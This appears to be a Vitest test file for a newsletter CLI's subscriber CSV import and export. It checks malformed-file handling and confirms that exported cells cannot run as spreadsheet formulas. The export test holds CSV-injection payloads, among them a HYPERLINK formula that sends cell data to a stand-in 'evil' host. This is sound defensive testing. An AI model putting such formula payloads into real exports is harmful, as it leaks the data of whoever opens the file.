// `pressroom subscribers import` / `export` with hostile files (issue 10.6, 10.8), through the
// real CLI on a real SQLite file; the export is opened in LibreOffice to see that no formula runs.
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, describe, expect, it } from 'vitest';
import { execCliSync } from '../support/cli.js';
import { fixturesDir } from '../support/paths.js';

const root = mkdtempSync(path.join(tmpdir(), 'pressroom-cli-csv-'));
afterAll(() => rmSync(root, { recursive: true, force: true }));
let n = 0;
const hostile = (name: string) => path.join(fixturesDir, 'hostile', name);

function subscribers(args: string[], dataDir: string) {
  return execCliSync(['subscribers', ...args], { env: { PRESSROOM_DATA_DIR: dataDir }, maxBuffer: 64 * 1024 * 1024 });
}

const freshData = () => path.join(root, `data-${++n}`);
const listed = (dataDir: string) =>
  subscribers(['list'], dataDir)
    .stdout.split('\n')
    .filter(Boolean)
    .map((l) => l.split('\t'));

describe('subscribers import: hostile files', { timeout: 120_000 }, () => {
  it('an unclosed quote is reported on the line it opens, and only that row is lost', () => {
    const data = freshData();
    const file = hostile('csv-unclosed-quote.csv');
    const r = subscribers(['import', file], data);
    expect(r.status).toBe(1);
    expect(r.stderr.trim().split('\n')).toEqual([`${file}:2: CSV: a quoted field opens on this line and is never closed`]);
    expect(r.stdout.trim()).toBe(`${file}: 39 rows: 38 added, 0 duplicates skipped, 0 suppressed addresses skipped, 1 bad row skipped`);
    const emails = listed(data).map((row) => row[1]);
    expect(emails).toHaveLength(38);
    expect(emails[0]).toBe('user3@example.org');
    expect(emails.at(-1)).toBe('user40@example.org');
  });

  it('reports invalid UTF-8 and NUL bytes by line and imports nothing of those rows', () => {
    const data = freshData();
    const file = hostile('csv-bad-bytes.csv');
    const r = subscribers(['import', file], data);
    expect(r.status).toBe(1);
    expect(r.stderr.trim().split('\n')).toEqual([
      `${file}:3: CSV: invalid UTF-8 (save the file as UTF-8)`,
      `${file}:5: CSV: contains a NUL byte`,
      `${file}:7: CSV: invalid UTF-8 (save the file as UTF-8)`,
    ]);
    expect(listed(data).map((row) => row[1])).toEqual(['ok1@example.org', 'ok2@example.org', 'ok3@example.org']);
  });

  it('holds every row to the sign-up form limits; an enormous cell never reaches the parser', () => {
    const data = freshData();
    const file = path.join(root, 'limits.csv');
    const topics = (count: number, length = 5) => Array.from({ length: count }, (_, i) => `t${i}`.padEnd(length, 'x')).join(';');
    writeFileSync(
      file,
      [
        'email,name,topics,status,source', // 1
        `long-name@example.org,${'N'.repeat(201)},`, // 2
        `many-topics@example.org,Many,${topics(51)}`, // 3
        `long-topic@example.org,Long,${topics(1, 65)}`, // 4
        `huge@example.org,${'H'.repeat(4 * 1024 * 1024)},go`, // 5: a 4 MiB name
        'josé@example.org,José,', // 6
        `ok@example.org,${'N'.repeat(200)},${topics(50, 64)}`, // 7: at the limits
        `long-source@example.org,Src,,active,${'s'.repeat(201)}`, // 8
      ].join('\n') + '\n',
    );
    const r = subscribers(['import', file], data);
    expect(r.status).toBe(1);
    expect(r.stderr.trim().split('\n')).toEqual([
      `${file}:2: name: longer than 200 characters`,
      `${file}:3: topics: at most 50`,
      `${file}:4: topics: "${'t0'.padEnd(20, 'x')}…" is longer than 64 characters`,
      `${file}:5: CSV: the line is longer than 16 KiB, more than any row can be`,
      `${file}:6: email: "josé@example.org" is not an email address (has non-ASCII characters before the @, which Pressroom cannot deliver yet (no SMTPUTF8 support))`,
      `${file}:8: source: longer than 200 characters`,
    ]);
    expect(listed(data).map((row) => row[1])).toEqual(['ok@example.org']);
  });
});

const LIBREOFFICE = ['/usr/bin/soffice', '/usr/bin/libreoffice'].find((p) => existsSync(p));
if (!LIBREOFFICE && process.env.CI === 'true') throw new Error('LibreOffice (Debian package libreoffice-calc-nogui) is required when CI=true');

describe('subscribers export: formula cells', { timeout: 180_000 }, () => {
  const data = freshData();
  let exported = '';

  it('neutralises every cell a spreadsheet would run (=, +, -, @, tab, CR) and reads back unchanged', () => {
    expect(subscribers(['import', hostile('csv-formula-cells.csv')], data).status).toBe(0);
    const r = subscribers(['export'], data);
    expect(r.status).toBe(0);
    exported = r.stdout;
    const rows = parse(exported, { columns: true }) as Array<Record<string, string>>;
    const by = (email: string) => rows.find((row) => row.email === email)!;
    expect(by('hyper@example.org').name).toBe(`'=HYPERLINK("http://evil/?d="&A2,"Open")`);
    expect(by('sum@example.org').topics).toBe("'@sum(1+1)*cmd");
    expect(by('plus@example.org').name).toBe("'+1+2");
    expect(by('minus@example.org').name).toBe("'-1+2");
    expect(by("'=cmd@example.org").name).toBe('Eq In Address');
    expect(by('safe@example.org').name).toBe('Ada = Lovelace');
    for (const row of rows) for (const cell of Object.values(row)) expect(cell, JSON.stringify(row)).not.toMatch(/^[=+\-@\t\r]/);

    // export -> import gives the same subscribers back.
    const file = path.join(root, 'exported.csv');
    writeFileSync(file, exported);
    const again = freshData();
    expect(subscribers(['import', file], again).status).toBe(0);
    const strip = (rows: string[][]) => rows.map((row) => row.slice(1));
    expect(strip(listed(again))).toEqual(strip(listed(data)));
  });

  it.skipIf(!LIBREOFFICE)('LibreOffice opens the export without evaluating any formula', () => {
    expect(exported).not.toBe('');
    const dir = path.join(root, 'libreoffice');
    mkdirSync(dir, { recursive: true });
    const csvFile = path.join(dir, 'export.csv');
    writeFileSync(csvFile, exported);
    // Comma-separated, UTF-8, "evaluate formulas" on (the 13th token): the most dangerous way to open it.
    const r = spawnSync(
      LIBREOFFICE!,
      ['--headless', '--norestore', '--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true', '--convert-to', 'fods', '--outdir', dir, csvFile],
      { encoding: 'utf8', env: { ...process.env, HOME: dir }, timeout: 150_000 },
    );
    expect(r.status, r.stderr).toBe(0);
    const sheet = readFileSync(path.join(dir, 'export.fods'), 'utf8');
    expect(sheet).toContain('export'); // the table itself
    expect(sheet).not.toMatch(/table:formula=/);
    expect(sheet).toContain('<text:p>&apos;=HYPERLINK(&quot;http://evil/?d=&quot;&amp;A2,&quot;Open&quot;)</text:p>');
    expect(sheet).toContain('<text:p>&apos;@sum(1+1)*cmd</text:p>');
  });
});
